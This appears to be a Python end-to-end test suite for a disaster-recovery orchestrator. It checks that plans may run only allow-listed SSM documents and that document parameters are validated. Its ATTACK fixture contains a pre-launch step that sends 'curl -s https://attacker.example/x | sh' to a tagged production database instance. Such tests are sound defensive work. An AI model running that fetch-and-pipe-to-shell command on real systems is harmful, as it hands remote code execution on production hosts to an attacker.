"""End to end: only the SSM documents the deploy allows run (issue #13, "scripts are a root shell for anyone who
may start a plan"). The attack: a DRILL StartPlan whose pre-launch step sends AWS-RunShellScript to a
pre-existing production instance selected by tag, before anything launches. It is refused at StartPlan: no
SendCommand reaches the SSM simulator, nothing launches, no execution runs."""

from __future__ import annotations

from typing import Any

from localcloud.runner import start, wait
from orchestrator.domain.plan import parse_plan
from tests.e2e.helpers import events_of, ledger_items, sid, start_recovery_calls, wave

PRODUCTION = "i-0a1b2c3d4e5f60718"  # the old site's database primary, a managed node before any launch
PRODUCTION_NODE = {"ssm.instances": {PRODUCTION: {"tags": {"Role": "database-primary"}}}}
ATTACK = {
    "planId": "innocent-drill",
    "waves": [
        wave(
            "db",
            [sid("a", 1)],
            preLaunch=[
                {
                    "documentName": "AWS-RunShellScript",
                    "parameters": {"commands": ["curl -s https://attacker.example/x | sh"]},
                    "targets": {"tags": {"Role": "database-primary"}},
                }
            ],
        )
    ],
}


def _commands(cloud: Any) -> list[tuple[str, list[str], list[dict[str, Any]]]]:
    """The SSM simulator's record of every command sent: document, instance ids, tag targets."""
    return [(c.document.name, c.instance_ids, c.targets) for c in cloud.ssm._commands.values()]


def test_a_drill_whose_pre_launch_step_runs_a_shell_on_a_production_instance_by_tag_is_refused(local_cloud):
    # GIVEN the deployed default allow-list (only DRSOrch-* documents) and a production instance tagged
    # Role=database-primary, and a DRILL plan whose pre-launch step sends it a shell command
    cloud = local_cloud(**PRODUCTION_NODE)
    assert cloud.allowed_documents() == ["DRSOrch-*"]
    # WHEN it is started
    execution_id = start(cloud, parse_plan(ATTACK), execution_id="attack-1", requested_by="mallory")
    cloud.drain()
    # THEN one PlanFailed names the wave, the step, the document and the allow-list
    [failed] = [e.detail for e in events_of(cloud, "PlanFailed", execution_id)]
    assert failed["reason"] == "scripts refused: 1 script(s) name an SSM document outside the allow-list (DRSOrch-*)"
    assert failed["errors"] == [
        {
            "version": "1",
            "message": (
                "pre-launch step #1 of wave 'db' runs SSM document 'AWS-RunShellScript', which is not in the SSM "
                "document allow-list (DRSOrch-*): plans may run only the documents the deploy setting "
                "ALLOWED_SSM_DOCUMENTS lists"
            ),
            "code": "document-not-allowed",
            "waveId": "db",
            "path": "waves[0].preLaunch[0].documentName",
        }
    ]
    # AND nothing was sent (not even a DescribeDocument of the refused document), nothing launched, nothing runs
    assert _commands(cloud) == []
    assert (cloud.ssm.stats.calls["SendCommand"], cloud.ssm.stats.calls["DescribeDocument"]) == (0, 0)
    assert start_recovery_calls(cloud) == 0
    assert ledger_items(cloud) == []  # no execution, no wave: only the record of the refusal (a decision)
    assert [e.detail_type for e in cloud.events] == ["StartPlan", "PlanFailed"]
    assert cloud.stats.handler_errors == 0


def test_the_same_step_runs_when_the_deploy_lists_its_document(local_cloud):
    # GIVEN the same production instance and plan, on a deploy that lists AWS-RunShellScript (the
    # deployer's choice: the attack above fails because of the allow-list, not for another reason)
    cloud = local_cloud(**PRODUCTION_NODE, **{"ssm.allowedDocuments": ["DRSOrch-*", "AWS-RunShellScript"]})
    # WHEN it is started
    execution_id = start(cloud, parse_plan(ATTACK), execution_id="allowed-1")
    # THEN the plan runs, and its pre-launch command went to the tagged instance
    assert wait(cloud, execution_id, timeout=60).status == "COMPLETED"
    assert _commands(cloud) == [("AWS-RunShellScript", [], [{"Key": "tag:Role", "Values": ["database-primary"]}])]
    assert cloud.ssm.stats.invocations["AWS-RunShellScript"] == 1


def test_parameters_are_checked_against_the_documents_declared_parameters_before_anything_runs(local_cloud):
    # GIVEN the library's health check (Target required; TimeoutSeconds optional) used twice with wrong
    # parameters: a misspelt one, and none at all
    cloud = local_cloud()
    plan = {
        "planId": "wrong-parameters",
        "waves": [
            wave(
                "db",
                [sid("p", 1)],
                postLaunch=[
                    {"documentName": "DRSOrch-HealthCheck", "parameters": {"Target": "tcp://db:5432", "Timeout": "9"}},
                    {"documentName": "DRSOrch-HealthCheck"},
                ],
            )
        ],
    }
    # WHEN it is started
    execution_id = start(cloud, parse_plan(plan), execution_id="params-1")
    cloud.drain()
    # THEN PlanFailed names both problems, from one DescribeDocument, and nothing was sent or launched
    [failed] = [e.detail for e in events_of(cloud, "PlanFailed", execution_id)]
    assert [(e["code"], e["path"]) for e in failed["errors"]] == [
        ("unknown-parameter", "waves[0].postLaunch[0].parameters.Timeout"),
        ("missing-parameter", "waves[0].postLaunch[1]"),
    ]
    assert failed["errors"][1]["message"] == (
        "post-launch step #2 of wave 'db': SSM document 'DRSOrch-HealthCheck' requires parameter 'Target' (it has "
        "no default)"
    )
    assert (cloud.ssm.stats.calls["DescribeDocument"], cloud.ssm.stats.calls["SendCommand"]) == (1, 0)
    assert start_recovery_calls(cloud) == 0
    assert ledger_items(cloud) == []
